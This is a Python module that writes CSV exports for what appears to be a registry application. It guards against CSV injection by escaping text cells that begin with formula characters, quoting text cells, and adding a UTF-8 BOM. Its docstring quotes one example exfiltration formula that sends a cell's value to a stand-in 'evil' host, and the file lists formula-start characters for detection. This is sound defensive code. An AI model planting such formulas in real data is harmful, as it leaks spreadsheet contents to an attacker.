"""The one CSV writer of every export: spreadsheet-safe, UTF-8 with a BOM, CRLF line ends.

Spreadsheets execute a cell that begins with a formula character, so a lot name or a beneficiary typed by
a user could become ``=HYPERLINK("http://evil/?"&A1, "click")`` in the registry's Excel (CSV injection,
OWASP "CSV Injection" cheat sheet). Following OWASP, every *text* cell that begins with ``=``, ``+``,
``-``, ``@``, TAB (0x09) or CR (0x0D) is prefixed with an apostrophe, which spreadsheets show as text and
do not evaluate; we add LF and the full-width forms ``＝ ＋ － ＠`` that some CJK spreadsheet locales also
read as formula starts. Every text cell is quoted (``csv.QUOTE_NONNUMERIC``), so a separator inside it
(comma, or the semicolon of locales that use it) cannot start a new cell, and double quotes are doubled.
Numbers — ``int`` and ``Decimal`` — are written as they are and unquoted, so ``-500`` (a correction in
fen) stays a number the spreadsheet can sum; only values the caller passes as text are neutralised.

The file begins with the UTF-8 byte-order mark so that Excel on Windows opens Chinese text as UTF-8 rather
than the ANSI code page, and lines end in CRLF as RFC 4180 §2 asks.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal

BOM = "\ufeff"
MEDIA_TYPE = "text/csv; charset=utf-8; header=present"
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
"""OWASP's ``= + - @ TAB CR``, plus LF and the full-width forms (see the module docstring)."""

Cell = str | int | Decimal | bool | date | datetime | None


def neutralise(text: str) -> str:
    """``text`` made inert for a spreadsheet: an apostrophe before a leading formula character."""
    if text and text[0] in FORMULA_STARTS:
        return "'" + text
    return text


def cell(value: Cell) -> str | int | Decimal:
    """One value as written: numbers as numbers, everything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):  # before int: a bool is an int to Python, not to a spreadsheet
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    assert isinstance(value, str), type(value)
    return neutralise(value)


def iter_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[str]:
    """The CSV text in chunks, one per row (the first begins with the BOM): for a streamed response."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    yield BOM + _drain(buffer)
    for row in rows:
        assert len(row) == len(header), (len(row), len(header))
        writer.writerow([cell(value) for value in row])
        yield _drain(buffer)


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """The whole CSV file as UTF-8 bytes (BOM included)."""
    return "".join(iter_csv(header, rows)).encode("utf-8")


def _drain(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text
